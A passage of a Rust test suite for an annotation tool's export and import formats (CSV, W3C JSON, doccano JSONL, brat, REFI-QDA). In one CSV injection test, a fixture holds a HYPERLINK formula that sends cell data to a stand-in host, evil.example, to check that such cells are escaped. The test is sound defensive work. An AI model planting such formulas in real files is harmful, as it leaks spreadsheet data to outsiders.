//! Export and import on the shipped corpus and its example annotations: golden files per format,
//! offsets checked against an independent count, each format parsed back by its own reader (the
//! csv crate, serde_json, an unzip and the REFI-QDA schema), and round trips through import.

mod common;

use std::path::Path;

use common::checkers::{
    assert_meets_w3c_musts, assert_valid_refi_qda, shared_schema, unzip, w3c_musts, xmllint,
};
use gloss::core::annotation::Stamp;
use gloss::core::corpus::Corpus;
use gloss::core::formats::import::{self, Batch, Report};
use gloss::core::formats::offsets::Given;
use gloss::core::formats::{self, DocText, Format, Material, Options, Scope};
use serde_json::Value;

/// The material of the workspace's corpus, its documents named under a fixed base IRI so that
/// golden files do not depend on the temporary folder.
fn material(ws: &common::Workspace) -> Material<'static> {
    // The corpus the material borrows from lives as long as the test.
    let corpus = Box::leak(Box::new(Corpus::open(&ws.corpus(), None).unwrap()));
    let mut m = Material::collect(corpus, &Scope::default()).unwrap();
    m.base = BASE.into();
    m
}

const BASE: &str = "https://example.org/corpus/";

fn exported(format: Format, options: Options) -> Vec<u8> {
    let ws = common::Workspace::new(true);
    let mut out = Vec::new();
    formats::write(format, &material(&ws), options, &mut out).unwrap();
    out
}

/// `project.qde` of the material's REFI-QDA project.
fn project(m: &Material, options: Options) -> String {
    let mut out = Vec::new();
    formats::qdpx::write_project(m, options, &mut out).unwrap();
    text(out)
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

/// `text[start..end]` in code points, counted here rather than by gloss.
fn slice(text: &str, start: usize, end: usize) -> String {
    text.chars().skip(start).take(end - start).collect()
}

fn shipped_text(rel: &str) -> String {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
    std::fs::read_to_string(root.join(rel)).unwrap()
}

#[test]
fn golden_json() {
    insta::assert_snapshot!(text(exported(Format::Json, Options::default())));
}

#[test]
fn golden_jsonl() {
    insta::assert_snapshot!(text(exported(Format::Jsonl, Options::default())));
}

#[test]
fn golden_csv() {
    insta::assert_snapshot!(text(exported(Format::Csv, Options::default())));
}

/// The rows are written before every field is known (each document is read once): a field
/// first used in the last annotated document has a column in the header and an empty cell in every
/// earlier row.
#[test]
fn csv_a_field_first_used_in_the_last_annotation_has_its_column_in_every_row() {
    let ws = common::Workspace::new(true);
    let mut m = material(&ws);
    let last = m.docs.iter_mut().rev().find(|d| !d.annotations.is_empty());
    let a = last.unwrap().annotations.last_mut().unwrap().to_mut();
    a.fields.insert("late".into(), "x,y".into());
    let id = a.id.clone();
    let mut out = Vec::new();
    formats::write(Format::Csv, &m, Options::default(), &mut out).unwrap();
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&out[3..]);
    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    let header: Vec<&str> = rows[0].iter().collect();
    assert_eq!(header[header.len() - 2..], ["late", "id"]);
    let late = header.len() - 2;
    assert!(
        rows.iter().all(|r| r.len() == header.len()),
        "a cell for every column"
    );
    let with_late: Vec<&str> = rows[1..]
        .iter()
        .filter(|r| !r[late].is_empty())
        .map(|r| &r[late + 1])
        .collect();
    assert!(!with_late.is_empty() && with_late.iter().all(|i| *i == id));
    assert_eq!(rows.last().unwrap()[late].to_owned(), "x,y");
}

#[test]
fn golden_md() {
    insta::assert_snapshot!(text(exported(Format::Md, Options::default())));
}

#[test]
fn golden_brat() {
    let ws = common::Workspace::new(true);
    let mut listing = String::new();
    for file in formats::brat::files(&material(&ws)) {
        let (path, contents) = file.unwrap();
        // The texts are the shipped documents; the golden file keeps what brat adds.
        if !path.ends_with(".txt") {
            listing.push_str(&format!("=== {path}\n{contents}"));
        }
    }
    insta::assert_snapshot!(listing);
}

#[test]
fn golden_qdpx_project() {
    let ws = common::Workspace::new(true);
    insta::assert_snapshot!(project(&material(&ws), Options::default()));
}

#[test]
fn every_format_is_the_same_on_a_second_export() {
    for format in Format::ALL.into_iter().filter(|f| !f.is_folder()) {
        assert_eq!(
            exported(format, Options::default()),
            exported(format, Options::default()),
            "{}",
            format.name()
        );
    }
}

#[test]
fn csv_parses_back_with_one_row_per_annotation_and_tag_and_offsets_that_slice_the_quote() {
    let bytes = exported(Format::Csv, Options::default());
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "UTF-8 byte-order mark"
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header[..12], formats::csv::HEADER[..12]);
    assert_eq!(
        header[12..],
        ["speaker", "role", "id"],
        "the scheme's fields, id last"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    // The shipped annotations: seven, each with two tags.
    assert_eq!(rows.len(), 14);
    let mut multibyte = false;
    for row in &rows {
        assert_eq!(row.len(), header.len());
        let (start, end) = (row[2].parse().unwrap(), row[3].parse().unwrap());
        assert_eq!(slice(&shipped_text(&row[0]), start, end), row[4]);
        multibyte |= !row[4].is_ascii();
    }
    assert!(multibyte, "a quote with multi-byte characters is checked");
    let note = rows.iter().find(|r| !r[7].is_empty()).unwrap();
    assert_eq!(&note[5], "policy commitment");
    assert_eq!(&note[6], "claim");
    assert!(note[4].contains("China’s"));
    let long = rows.iter().find(|r| &r[12] == "Long Zhou").unwrap();
    assert_eq!(&long[13], "foreign ministry");
    assert_eq!(
        rows.iter().filter(|r| !r[12].is_empty()).count(),
        6,
        "3 annotations, 2 tags"
    );
}

#[test]
fn json_has_the_w3c_fields_and_its_selectors_match_the_text() {
    let doc: Value = serde_json::from_slice(&exported(Format::Json, Options::default())).unwrap();
    assert_eq!(doc["@context"], "http://www.w3.org/ns/anno.jsonld");
    assert_eq!(doc["type"], "AnnotationCollection");
    assert!(doc["id"].as_str().unwrap().starts_with("urn:uuid:"));
    assert_eq!(doc["total"], 7);
    let page = &doc["first"];
    assert_eq!(page["type"], "AnnotationPage");
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 7);
    for item in items {
        assert_eq!(item["type"], "Annotation");
        assert!(item["id"].as_str().unwrap().starts_with("urn:uuid:"));
        assert_eq!(item["creator"]["name"], "gloss-example");
        assert_eq!(item["created"], "2026-11-23T10:00:00Z");
        assert_eq!(item["modified"], "2026-11-23T10:00:00Z");
        let target = &item["target"];
        let source = target["source"].as_str().unwrap();
        let text = shipped_text(source.strip_prefix(BASE).unwrap());
        let selectors = target["selector"].as_array().unwrap();
        let quote = selectors
            .iter()
            .find(|s| s["type"] == "TextQuoteSelector")
            .unwrap();
        let position = selectors
            .iter()
            .find(|s| s["type"] == "TextPositionSelector")
            .unwrap();
        let (start, end) = (
            position["start"].as_u64().unwrap() as usize,
            position["end"].as_u64().unwrap() as usize,
        );
        assert_eq!(slice(&text, start, end), quote["exact"].as_str().unwrap());
        let prefix = quote["prefix"].as_str().unwrap();
        assert_eq!(slice(&text, start - prefix.chars().count(), start), prefix);
        for body in item["body"].as_array().unwrap() {
            assert_eq!(body["type"], "TextualBody");
            // A field's body names its field; a choice field's value classifies, free text
            // describes.
            let purpose = match body[formats::json::FIELD].as_str() {
                None => ["tagging", "commenting"].as_slice(),
                Some("role") => &["classifying"],
                Some(_) => &["describing"],
            };
            assert!(
                purpose.contains(&body["purpose"].as_str().unwrap()),
                "{body}"
            );
        }
    }
    let bodies = |purpose: &str| {
        items
            .iter()
            .flat_map(|i| i["body"].as_array().unwrap())
            .filter(|b| b["purpose"] == purpose)
            .collect::<Vec<_>>()
    };
    assert_eq!(bodies("commenting").len(), 2);
    let roles: Vec<&str> = bodies("classifying")
        .iter()
        .map(|b| b["value"].as_str().unwrap())
        .collect();
    assert_eq!(
        roles,
        [
            "official document",
            "foreign ministry",
            "foreign government"
        ]
    );
    assert_eq!(bodies("describing").len(), 3, "the speakers");
}

#[test]
fn jsonl_labels_slice_each_line_s_own_text() {
    let out = text(exported(Format::Jsonl, Options::default()));
    let lines: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 5, "one line per document");
    let mut labels = 0;
    for line in &lines {
        let text = line["text"].as_str().unwrap();
        assert_eq!(text, shipped_text(line["document"].as_str().unwrap()));
        for label in line["label"].as_array().unwrap() {
            let (start, end) = (label[0].as_u64().unwrap(), label[1].as_u64().unwrap());
            let quote = slice(text, start as usize, end as usize);
            assert!(
                quote.ends_with('.') || quote.ends_with("country"),
                "{quote}"
            );
            labels += 1;
        }
    }
    assert_eq!(labels, 14);
}

#[test]
fn jsonl_offsets_count_utf16_units_as_doccano_does_or_code_points_when_asked() {
    let ws = common::Workspace::new(true);
    let mut m = material(&ws);
    // Two emoji before every annotation: two code points, four UTF-16 code units.
    for doc in &mut m.docs {
        doc.text = DocText::Given(format!("😀😀{}", doc.text().unwrap()));
        for a in &mut doc.annotations {
            a.to_mut().start += 2;
            a.to_mut().end += 2;
        }
    }
    let lines = |options: Options| -> Vec<Value> {
        let mut out = Vec::new();
        formats::write(Format::Jsonl, &m, options, &mut out).unwrap();
        text(out)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let quotes = |line: &Value, slice: &dyn Fn(&str, usize, usize) -> String| -> Vec<String> {
        let text = line["text"].as_str().unwrap();
        line["label"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| {
                slice(
                    text,
                    l[0].as_u64().unwrap() as usize,
                    l[1].as_u64().unwrap() as usize,
                )
            })
            .collect()
    };
    // Sliced as JavaScript (doccano) slices: in UTF-16 code units.
    let utf16 = |text: &str, start: usize, end: usize| {
        String::from_utf16(&text.encode_utf16().collect::<Vec<u16>>()[start..end]).unwrap()
    };
    let expected: Vec<Vec<String>> = m
        .docs
        .iter()
        .map(|d| {
            d.annotations
                .iter()
                .flat_map(|a| a.tags.iter().map(|_| a.quote.clone()))
                .collect()
        })
        .collect();
    let written = lines(Options::default());
    assert_eq!(written[0]["offsets"], "utf16");
    let got: Vec<Vec<String>> = written.iter().map(|l| quotes(l, &utf16)).collect();
    assert_eq!(got, expected);
    // As Python (spaCy) slices: in code points.
    let written = lines(Options {
        offsets: formats::jsonl::OffsetUnit::Codepoints,
        ..Options::default()
    });
    let got: Vec<Vec<String>> = written.iter().map(|l| quotes(l, &slice)).collect();
    assert_eq!(got, expected);
    // Either way an import places the labels where they were.
    for offsets in [
        formats::jsonl::OffsetUnit::Utf16,
        formats::jsonl::OffsetUnit::Bytes,
    ] {
        let mut out = Vec::new();
        let options = Options {
            offsets,
            ..Options::default()
        };
        formats::write(Format::Jsonl, &m, options, &mut out).unwrap();
        let batch = formats::jsonl::read(&text(out), Default::default(), &|_| None).unwrap();
        let first = &m.docs[0].annotations[0];
        assert_eq!(
            (batch.annotations[0].start, batch.annotations[0].end),
            (first.start, first.end),
            "{offsets:?}"
        );
        assert_eq!(
            batch.annotations[0].quote.as_deref(),
            Some(first.quote.as_str())
        );
    }
}

#[test]
fn brat_spans_slice_the_txt_beside_them() {
    let ws = common::Workspace::new(true);
    let files: Vec<(String, String)> = formats::brat::files(&material(&ws))
        .map(Result::unwrap)
        .collect();
    let get = |name: &str| &files.iter().find(|(p, _)| p == name).unwrap().1;
    let ann = get("000_073045cb8793dce5.ann");
    let txt = get("000_073045cb8793dce5.txt");
    for line in ann.lines().filter(|l| l.starts_with('T')) {
        let cols: Vec<&str> = line.split('\t').collect();
        let offsets: Vec<usize> = cols[1]
            .split(' ')
            .skip(1)
            .map(|n| n.parse().unwrap())
            .collect();
        assert_eq!(slice(txt, offsets[0], offsets[1]), cols[2]);
    }
    assert!(ann.contains("#1\tAnnotatorNotes T5\tQuoted from the Cyberspace"));
}

#[test]
fn json_meets_every_must_assertion_of_the_w3c_test_suite() {
    let ws = common::Workspace::new(true);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    // The default base: the corpus folder's file:// URL.
    let mut m = Material::collect(&corpus, &Scope::default()).unwrap();
    assert!(m.base.starts_with("file:///") && m.base.ends_with("/corpus/"));
    let mut out = Vec::new();
    formats::write(Format::Json, &m, Options::default(), &mut out).unwrap();
    assert_meets_w3c_musts(&out);
    // Paths and ids that are not URIs as they are: they are percent-encoded.
    m.base = formats::json::base_iri("https://example.org/claims").unwrap();
    m.docs[0].rel_path = "press cuttings/Chine été #1.txt".into();
    m.docs[0].annotations[0].to_mut().id = "my note 1".into();
    let mut out = Vec::new();
    formats::write(Format::Json, &m, Options::default(), &mut out).unwrap();
    let written = text(out.clone());
    assert!(
        written.contains(
            "\"https://example.org/claims/press%20cuttings/Chine%20%C3%A9t%C3%A9%20%231.txt\""
        ),
        "{written}"
    );
    assert!(written.contains("\"urn:x-gloss:annotation:my%20note%201\""));
    assert_meets_w3c_musts(&out);
    // ... and read back as they were.
    let batch = formats::json::read(&out).unwrap();
    assert_eq!(batch.annotations[0].id.as_deref(), Some("my note 1"));
    assert!(
        batch.annotations[0]
            .document
            .ends_with("/press cuttings/Chine été #1.txt")
    );
    // A relative source fails the suite, so the check above can fail.
    let relative = written.replace("https://example.org/claims/", "");
    if let Some((code, report)) = w3c_musts(relative.as_bytes()) {
        assert_eq!(code, Some(1), "{report}");
        assert!(report.contains("3.2-targetObjectsRecognized"), "{report}");
    }
}

#[test]
fn qdpx_unzips_to_a_project_valid_against_the_refi_qda_schema_with_its_sources() {
    let Some(schema) = shared_schema("refi-qda-Project-mrt2019.xsd") else {
        println!("skipped: the REFI-QDA schema (../shared/schemas) is not beside the repository");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    unzip(&exported(Format::Qdpx, Options::default()), dir.path());
    let project = dir.path().join("project.qde");
    xmllint(&schema, &project);
    let qde = std::fs::read_to_string(&project).unwrap();
    let sources: Vec<&str> = qde
        .split("plainTextPath=\"internal://")
        .skip(1)
        .map(|s| &s[..s.find('"').unwrap()])
        .collect();
    assert_eq!(sources.len(), 5);
    for s in sources {
        let text = std::fs::read_to_string(dir.path().join("sources").join(s)).unwrap();
        assert!(!text.is_empty());
    }
    // The denial "We firmly oppose…" of the second document, by its id and code point offsets.
    assert!(qde.contains(
        "guid=\"f9637412-b5b7-4028-9d46-ef378f7c7769\" startPosition=\"2782\" endPosition=\"2837\""
    ));
}

#[test]
fn qdpx_crlf_positions_count_line_breaks_twice() {
    let ws = common::Workspace::new(true);
    let m = material(&ws);
    let project = project(
        &m,
        Options {
            crlf_positions: true,
            ..Options::default()
        },
    );
    let doc = m
        .docs
        .iter()
        .find(|d| d.rel_path == "001_bcba7e35c127046e.txt")
        .unwrap();
    let breaks = doc
        .text()
        .unwrap()
        .chars()
        .take(2782)
        .filter(|c| *c == '\n')
        .count();
    assert!(breaks > 0);
    assert!(project.contains(&format!("startPosition=\"{}\"", 2782 + breaks)));
}

const FIXED: &str = "2026-12-01T09:00:00Z";

fn stamp() -> Stamp {
    Stamp {
        annotator: "importer".into(),
        time: FIXED.into(),
    }
}

/// Imports `batch` into a copy of the corpus without annotations.
fn import_into_empty(batch: Batch) -> (common::Workspace, Report) {
    let ws = common::Workspace::new(false);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let report = import::merge(
        &corpus,
        batch,
        &stamp(),
        &|c| gloss::tui::keymap::Keymap::default().reader_uses(c),
        Path::new("in"),
        gloss::core::user_state::timing::LOCK_WAIT,
        false,
    );
    (ws, report)
}

/// The annotation files in `dir`, without the folder's lock file, which every save (an
/// import's too) leaves there.
fn files_of(dir: &Path) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name() != gloss::core::storage::lock::LOCK_FILE)
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read_to_string(e.path()).unwrap(),
            )
        })
        .collect();
    out.sort();
    out
}

fn shipped_annotations() -> Vec<(String, String)> {
    files_of(&Path::new(env!("CARGO_MANIFEST_DIR")).join("annotations"))
}

fn assert_round_trip_is_byte_for_byte(batch: Batch) {
    let (ws, report) = import_into_empty(batch);
    assert_eq!(report.added, 7, "{report}");
    assert!(!report.has_problems(), "{report}");
    assert!(report.new_tags.is_empty(), "{report}");
    assert_eq!(files_of(&ws.annotations()), shipped_annotations());
}

#[test]
fn json_round_trip_is_byte_for_byte() {
    let bytes = exported(Format::Json, Options::default());
    assert_round_trip_is_byte_for_byte(formats::json::read(&bytes).unwrap());
}

#[test]
fn csv_round_trip_is_byte_for_byte() {
    let bytes = exported(Format::Csv, Options::default());
    assert_round_trip_is_byte_for_byte(formats::csv::read(&bytes).unwrap());
}

#[test]
fn csv_cells_that_spreadsheets_would_run_as_formulas_are_quoted_and_read_back_exactly() {
    let ws = common::Workspace::new(true);
    let mut m = material(&ws);
    let link = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")";
    let notes = [
        link,
        "+1 for this",
        "-",
        "@me",
        "\tindented",
        "'=kept",
        "plain",
    ];
    for (a, note) in m
        .docs
        .iter_mut()
        .flat_map(|d| d.annotations.iter_mut())
        .zip(notes)
    {
        a.to_mut().note = note.into();
    }
    m.docs[0].annotations[0].to_mut().annotator = "@annotator".into();
    let cells = |options: Options| -> Vec<(String, String)> {
        let mut out = Vec::new();
        formats::write(Format::Csv, &m, options, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(&out[3..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        rows.iter()
            .map(|r| (r[7].to_owned(), r[8].to_owned()))
            .collect()
    };
    let guarded = cells(Options::default());
    assert_eq!(guarded[0], (format!("'{link}"), "'@annotator".into()));
    let written: Vec<&str> = guarded.iter().map(|(note, _)| note.as_str()).collect();
    assert!(written.contains(&"'+1 for this") && written.contains(&"''=kept"));
    assert!(written.contains(&"'\tindented") && written.contains(&"plain"));
    // No cell a spreadsheet reads starts like a formula.
    assert!(
        guarded
            .iter()
            .all(|(n, a)| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])
                && !a.starts_with(['=', '+', '-', '@']))
    );
    let raw = cells(Options {
        raw_cells: true,
        ..Options::default()
    });
    assert_eq!(raw[0], (link.to_owned(), "@annotator".into()));
    // Reading takes every guarded cell back as it was.
    let mut out = Vec::new();
    formats::write(Format::Csv, &m, Options::default(), &mut out).unwrap();
    let batch = formats::csv::read(&out).unwrap();
    let read: Vec<&str> = batch.annotations.iter().map(|a| a.note.as_str()).collect();
    assert_eq!(read, notes);
    assert_eq!(
        batch.annotations[0].annotator.as_deref(),
        Some("@annotator")
    );
}

#[test]
fn qdpx_round_trip_is_byte_for_byte_with_either_way_of_counting() {
    for options in [
        Options::default(),
        Options {
            crlf_positions: true,
            ..Options::default()
        },
    ] {
        let ws = common::Workspace::new(false);
        let corpus = Corpus::open(&ws.corpus(), None).unwrap();
        let bytes = exported(Format::Qdpx, options);
        let batch = formats::qdpx::read(&bytes, Given::default(), &|n, _| {
            import::document_named(&corpus, n)
        })
        .unwrap();
        assert_round_trip_is_byte_for_byte(batch);
    }
}

/// What survives a format without ids, authors or times: document, span, quote, tags and note.
fn essentials(files: Vec<(String, String)>) -> Vec<String> {
    files
        .into_iter()
        .flat_map(|(name, toml)| {
            toml.lines()
                .filter(|l| {
                    !["id =", "annotator =", "created =", "modified ="]
                        .iter()
                        .any(|k| l.starts_with(k))
                })
                .map(|l| format!("{name}: {l}"))
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn brat_round_trip_keeps_spans_tags_notes_and_coders() {
    let ws = common::Workspace::new(true);
    let dir = tempfile::tempdir().unwrap();
    formats::write_to(Format::Brat, &material(&ws), Options::default(), dir.path()).unwrap();
    let (imported, report) =
        import_into_empty(formats::brat::read(dir.path(), Given::default()).unwrap());
    assert_eq!(report.added, 7, "{report}");
    let files = files_of(&imported.annotations());
    assert_eq!(essentials(files.clone()), essentials(shipped_annotations()));
    // The coder travels as an attribute; ids and times do not.
    assert!(files[0].1.contains("annotator = \"gloss-example\""));
    assert!(!files.iter().any(|(_, f)| f.contains("importer")));
    assert!(files[0].1.contains(&format!("created = \"{FIXED}\"")));
}

#[test]
fn jsonl_round_trip_keeps_spans_and_tags() {
    let out = text(exported(Format::Jsonl, Options::default()));
    let (imported, report) =
        import_into_empty(formats::jsonl::read(&out, Given::default(), &|_| None).unwrap());
    assert_eq!(report.added, 7, "{report}");
    // Notes and fields do not travel in doccano's format, which has labels alone.
    let without_notes = |files: Vec<(String, String)>| -> Vec<String> {
        essentials(files)
            .into_iter()
            .filter(|l| {
                let line = l.split_once(": ").map_or("", |(_, line)| line);
                !["note =", "role =", "speaker =", "[annotation.fields]"]
                    .iter()
                    .any(|k| line.starts_with(k))
                    && !line.is_empty()
            })
            .collect()
    };
    assert_eq!(
        without_notes(files_of(&imported.annotations())),
        without_notes(shipped_annotations())
    );
}

#[test]
fn importing_the_same_file_twice_changes_nothing() {
    let bytes = exported(Format::Csv, Options::default());
    let (ws, _) = import_into_empty(formats::csv::read(&bytes).unwrap());
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let before = files_of(&ws.annotations());
    let report = import::merge(
        &corpus,
        formats::csv::read(&bytes).unwrap(),
        &stamp(),
        &|c| gloss::tui::keymap::Keymap::default().reader_uses(c),
        Path::new("in"),
        gloss::core::user_state::timing::LOCK_WAIT,
        false,
    );
    assert_eq!((report.added, report.unchanged), (0, 7), "{report}");
    assert!(report.files_written.is_empty());
    assert_eq!(files_of(&ws.annotations()), before);
}

#[test]
fn a_tag_filter_keeps_the_annotations_with_the_tag_and_only_that_tag() {
    let ws = common::Workspace::new(true);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let scope = Scope {
        documents: vec![],
        tags: vec!["denial".into()],
    };
    let m = Material::collect(&corpus, &scope).unwrap();
    let tags: Vec<&Vec<String>> = m
        .docs
        .iter()
        .flat_map(|d| &d.annotations)
        .map(|a| &a.tags)
        .collect();
    assert_eq!(tags.len(), 3);
    assert!(tags.iter().all(|t| **t == ["denial"]));
    assert_eq!(m.tags(&m.seen().unwrap()).len(), 1);
    let unknown = Scope {
        documents: vec![],
        tags: vec!["nonsense".into()],
    };
    let err = Material::collect(&corpus, &unknown).unwrap_err();
    assert!(
        matches!(&err, formats::ExportError::NoTag { tag, .. } if tag == "nonsense"),
        "{err}"
    );
    assert!(err.to_string().contains("denial"), "{err}");
}

#[test]
fn an_annotation_moved_by_an_edit_is_exported_where_it_now_is_and_an_unplaced_one_is_named() {
    let ws = common::Workspace::new(true);
    let path = ws.corpus().join("003_51e4aaa34ca25599.txt");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, format!("A new first line.\n{text}")).unwrap();
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let m = Material::collect(&corpus, &Scope::default()).unwrap();
    assert_eq!(m.docs.iter().map(|d| d.annotations.len()).sum::<usize>(), 7);
    assert!(m.left_out.is_empty(), "{:?}", m.left_out);
    let moved = &m.docs[3].annotations[0];
    assert_eq!(moved.start, 1217 + "A new first line.\n".chars().count());

    let gone = text.replace(
        "Beijing has repeatedly denied carrying out cyberattacks against any other country",
        "Nothing of the kind was said",
    );
    std::fs::write(&path, gone).unwrap();
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let m = Material::collect(&corpus, &Scope::default()).unwrap();
    assert_eq!(m.docs.iter().map(|d| d.annotations.len()).sum::<usize>(), 6);
    assert_eq!(m.left_out.len(), 1);
    assert!(
        m.left_out[0].contains("d2f7ed74-874b-4c26-91d3-58fe5faf01d4"),
        "{:?}",
        m.left_out
    );
}

#[test]
fn creator_and_last_modifier_survive_csv_json_and_qdpx_and_every_coder_is_a_refi_qda_user() {
    let ws = common::Workspace::new(true);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let mut m = material(&ws);
    {
        let a = m.docs[0].annotations[0].to_mut();
        a.annotator = "ana".into();
        a.modified_by = "ben".into();
    }
    let written = |format: Format| {
        let mut out = Vec::new();
        formats::write(format, &m, Options::default(), &mut out).unwrap();
        out
    };
    let first_is_ana_s_changed_by_ben = |batch: Batch| {
        let a = &batch.annotations[0];
        assert_eq!(
            (a.annotator.as_deref(), a.modified_by.as_deref()),
            (Some("ana"), Some("ben"))
        );
        // The others were last changed by whoever made them.
        let b = &batch.annotations[1];
        assert_eq!(
            b.modified_by.as_deref().unwrap_or("gloss-example"),
            "gloss-example"
        );
    };
    let csv = written(Format::Csv);
    assert!(text(csv.clone()).contains(",ana,") && text(csv.clone()).contains(",ben,"));
    first_is_ana_s_changed_by_ben(formats::csv::read(&csv).unwrap());
    let json = written(Format::Json);
    let items: Value = serde_json::from_slice(&json).unwrap();
    let item = &items["first"]["items"][0];
    assert_eq!(item["creator"]["name"], "ana");
    assert_eq!(item[formats::json::MODIFIED_BY]["name"], "ben");
    // Only a modifier other than the creator is named.
    assert!(
        items["first"]["items"][1]
            .get(formats::json::MODIFIED_BY)
            .is_none()
    );
    assert_meets_w3c_musts(&json);
    first_is_ana_s_changed_by_ben(formats::json::read(&json).unwrap());
    let qdpx = written(Format::Qdpx);
    let qde = project(&m, Options::default());
    for name in ["ana", "ben", "gloss-example"] {
        assert!(qde.contains(&format!("name=\"{name}\"/>")), "{name}: {qde}");
    }
    let guid_of = |name: &str| {
        let at = qde.find(&format!("name=\"{name}\"/>")).unwrap();
        let user = &qde[qde[..at].rfind("<User guid=\"").unwrap() + 12..];
        user[..36].to_owned()
    };
    let (ana, ben) = (guid_of("ana"), guid_of("ben"));
    assert!(qde.contains(&format!("creatingUser=\"{ana}\"")));
    assert!(qde.contains(&format!("modifyingUser=\"{ben}\"")));
    // Each coding of ana's annotation names her as its creating user; a field value is a
    // coding too.
    let codings = qde.matches("<Coding guid=").count();
    assert_eq!(
        codings,
        m.docs
            .iter()
            .flat_map(|d| &d.annotations)
            .map(|a| a.tags.len() + a.fields.len())
            .sum::<usize>()
    );
    assert_eq!(
        qde.matches(&format!("creatingUser=\"{ana}\" creationDateTime"))
            .count(),
        1 + m.docs[0].annotations[0].tags.len()
    );
    assert_valid_refi_qda(&qdpx);
    first_is_ana_s_changed_by_ben(
        formats::qdpx::read(&qdpx, Given::default(), &|n, _| {
            import::document_named(&corpus, n)
        })
        .unwrap(),
    );
    // Imported, the modifier is written to disk.
    let (imported, report) = import_into_empty(formats::csv::read(&csv).unwrap());
    assert!(!report.has_problems(), "{report}");
    let files = files_of(&imported.annotations());
    assert!(
        files[0].1.contains("annotator = \"ana\"\n"),
        "{}",
        files[0].1
    );
    assert!(
        files[0].1.contains("modified_by = \"ben\"\n"),
        "{}",
        files[0].1
    );
}

#[test]
fn the_md_report_has_an_agreement_table_of_the_coders() {
    let ws = common::Workspace::new(true);
    let mut m = material(&ws);
    let report = |m: &Material| {
        text({
            let mut out = Vec::new();
            formats::write(Format::Md, m, Options::default(), &mut out).unwrap();
            out
        })
    };
    // One coder: the section says why there is no figure.
    assert!(
        report(&m).contains(
            "\n## Agreement\n\nCoders: gloss-example; documents coded by two or more: 0."
        )
    );
    // A second coder who coded every annotated document exactly as the first.
    for doc in &mut m.docs {
        let copies: Vec<_> = doc
            .annotations
            .iter()
            .map(|a| {
                let mut b = (**a).clone();
                b.annotator = "ben".into();
                b.modified_by = "ben".into();
                b.id = format!("{}-ben", a.id);
                formats::Exported::from(b)
            })
            .collect();
        doc.annotations.extend(copies);
    }
    let same = report(&m);
    assert!(
        same.contains("Coders: ben, gloss-example; documents coded by two or more: 4."),
        "{same}"
    );
    assert!(
        same.contains("| subject | measure | coders | units | value |\n|---|---|---|---:|---:|\n"),
        "{same}"
    );
    let row = |md: &str, subject: &str, measure: &str| -> String {
        let start = format!("| {subject} | {measure} | ");
        md.lines()
            .find(|l| l.starts_with(&start))
            .unwrap_or_else(|| panic!("no row {start} in {md}"))
            .to_owned()
    };
    assert!(
        row(&same, "tag denial", "alpha").ends_with(" | 1.000 |"),
        "{same}"
    );
    assert!(row(&same, "tag denial", "u-alpha").ends_with(" | 1.000 |"));
    // Ben calls one denial an accusation: the denial's α falls below 1.
    let ben_s_denial = m
        .docs
        .iter_mut()
        .flat_map(|d| d.annotations.iter_mut())
        .find(|a| a.annotator == "ben" && a.has_tag("denial"))
        .unwrap();
    for t in &mut ben_s_denial.to_mut().tags {
        if t == "denial" {
            *t = "accusation".into();
        }
    }
    let differ = report(&m);
    let denial = row(&differ, "tag denial", "alpha");
    assert!(!denial.ends_with(" | 1.000 |"), "{denial}");
    assert!(denial.contains(" | ben, gloss-example | "), "{denial}");
    assert!(denial.contains(" sentences | "), "{denial}");
}

/// The cells of a CSV export as Python's `csv` module reads them (an implementation of its own,
/// as a spreadsheet's would be), or `None` without python3.
fn python_csv_cells(export: &[u8]) -> Option<Vec<Vec<String>>> {
    let script = "import csv, io, json, sys\n\
                  text = sys.stdin.buffer.read().decode('utf-8-sig')\n\
                  print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
    let out = common::python3(
        &["-c".as_ref(), script.as_ref()],
        export,
        "its csv module cannot read the export",
    )?;
    Some(serde_json::from_slice(&out).unwrap())
}

#[test]
fn a_note_of_several_lines_survives_csv_json_and_qdpx_and_comes_back_as_a_multi_line_string() {
    let ws = common::Workspace::new(true);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let mut m = material(&ws);
    let note = "Two claims, \"quoted\":\n- a denial; a victim\n\n中文, after an empty line";
    m.docs[0].annotations[0].to_mut().note = note.into();
    let written = |format: Format| {
        let mut out = Vec::new();
        formats::write(format, &m, Options::default(), &mut out).unwrap();
        out
    };
    let first_note_is_it = |batch: &Batch| assert_eq!(batch.annotations[0].note, note);

    let csv = written(Format::Csv);
    // The cell is quoted, so that its line breaks stay inside it.
    assert!(text(csv.clone()).contains(
